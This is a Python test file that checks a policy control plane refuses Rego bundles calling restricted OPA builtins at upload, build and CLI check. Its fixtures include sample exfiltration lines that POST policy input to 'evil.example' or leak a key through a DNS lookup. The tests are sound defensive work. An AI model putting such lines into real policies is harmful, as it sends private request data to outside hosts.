"""A bundle may not call the network, the host or chance: refused at check, build and publish.

The restricted capabilities (`nexus_control.authoring.capabilities`) go to
the real ``opa check``; the refusal names the author's file, line and column.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from nexus_control.access.signing_keys import KeyPaths
from nexus_control.access.tokens import Role, create_token
from nexus_control.api.app import create_app, create_control_plane
from nexus_control.authoring.bundle import BuildError, BuildOptions, build_bundle
from nexus_control.authoring.opa import Opa
from nexus_control.authoring.sources import pack_sources
from nexus_control.plane import ControlPlane
from nexus_control.settings import ControlSettings
from tests.conftest import GATEWAY, REGO

pytestmark = [pytest.mark.opa]

EXFILTRATING = {
    "http.send": 'http.send({"method": "POST", "url": "https://evil.example", "body": input})',
    "net.lookup_ip_addr": 'net.lookup_ip_addr(sprintf("%s.evil.example", [input.key]))',
    "rand.intn": 'rand.intn("coin", 2) == 1',
    "uuid.rfc4122": 'uuid.rfc4122("x") != ""',
    "io.jwt.encode_sign": (
        'io.jwt.encode_sign({"alg": "HS256"}, {}, {"kty": "oct", "k": "eA"}) != ""'
    ),
}
LINE = 5


def module_calling(builtin: str) -> str:
    return f"package nexus.exfil\n\nimport rego.v1\n\nleak if {{\n\t{EXFILTRATING[builtin]}\n}}\n"


def bundle_with(tmp_path: Path, builtin: str) -> Path:
    library = tmp_path / "rego"
    shutil.copytree(REGO, library)
    (library / "nexus" / "exfil.rego").write_text(module_calling(builtin))
    bundle = tmp_path / "bundle"
    shutil.copytree(GATEWAY, bundle)
    (bundle / "bundle.yaml").write_text(
        (bundle / "bundle.yaml").read_text().replace("../../rego", str(library))
    )
    return bundle


@pytest.fixture
def plane(tmp_path: Path, session_keys: KeyPaths, opa: Opa) -> Iterator[ControlPlane]:
    settings = ControlSettings(
        database_url=f"sqlite:///{tmp_path / 'cp.db'}",
        keys_dir=tmp_path / "keys",
        signing_key_file=session_keys.signing,
        approval_key_file=session_keys.approval,
    )
    control = create_control_plane(settings, opa=opa)
    yield control
    control.close()


@pytest.mark.parametrize("builtin", sorted(EXFILTRATING))
def test_bundle_using_http_send_is_refused(
    builtin: str, tmp_path: Path, plane: ControlPlane, opa: Opa, session_keys: KeyPaths
) -> None:
    bundle = bundle_with(tmp_path, builtin)
    where = f"policy/nexus/exfil.rego:{LINE + 1}:"

    with plane.db.session() as session:
        author, _ = create_token(session, name="alice", role=Role.AUTHOR)
    with TestClient(create_app(plane)) as client:
        refused = client.post(
            "/v1/bundles",
            content=pack_sources(bundle),
            headers={"authorization": f"Bearer {author}"},
        )
    assert refused.status_code == 422, refused.text
    message = refused.json()["error"]["message"]
    assert where in message and f"undefined function {builtin}" in message, message
    assert plane.registry.history() == []

    options = BuildOptions(
        session_keys.signing, "dev", session_keys.approval_jwks, tmp_path / "dist"
    )
    with pytest.raises(BuildError) as build:
        build_bundle(bundle, opa, options)
    (problem,) = [p for p in build.value.problems if "exfil.rego" in p.file]
    assert problem.line == LINE + 1 and builtin in problem.message
    assert not (tmp_path / "dist").exists()

    check = subprocess.run(
        [sys.executable, "-m", "nexus_cli", "check", str(bundle)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert check.returncode == 1, check.stdout + check.stderr
    assert f"exfil.rego:{LINE + 1}:" in check.stderr and builtin in check.stderr


def test_the_library_itself_passes_the_restricted_capabilities(tmp_path: Path) -> None:
    check = subprocess.run(
        [sys.executable, "-m", "nexus_cli", "check", str(GATEWAY)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert check.returncode == 0, check.stderr
